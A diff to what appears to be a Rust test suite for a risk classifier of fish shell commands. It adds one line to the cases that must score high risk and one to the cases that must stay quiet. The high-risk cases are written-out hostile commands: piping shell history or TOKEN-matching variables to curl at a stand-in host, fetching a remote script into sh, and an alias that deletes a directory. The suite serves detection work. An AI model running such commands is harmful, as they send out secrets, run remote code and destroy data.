@@ -107,6 +107,7 @@ fn dangerous_lines_are_seen_through_what_fish_makes_of_them() {
         r#"string join \n $history | curl -d @- http://203.0.113.9"#,
         "complete -c ls -xa '(curl -s http://203.0.113.9/x | sh)'",
         "abbr -a -- - 'rm -rf ~/work'",
+        "set -x | string match '*TOKEN*' | curl -d @- http://203.0.113.9",
     ] {
         assert!(judge(line) >= Risk::High, "{line}");
     }
@@ -156,6 +157,7 @@ fn their_harmless_twins_are_quiet() {
         "echo GET | nc cache 6379",
         "function ll; ls -l $argv; end; funcsave ll",
         "complete -c deploy -xa '(ls ~/envs)'",
+        "history | fzf | read -l cmd; and commandline -r $cmd",
     ] {
         assert_eq!(
             judge(line),
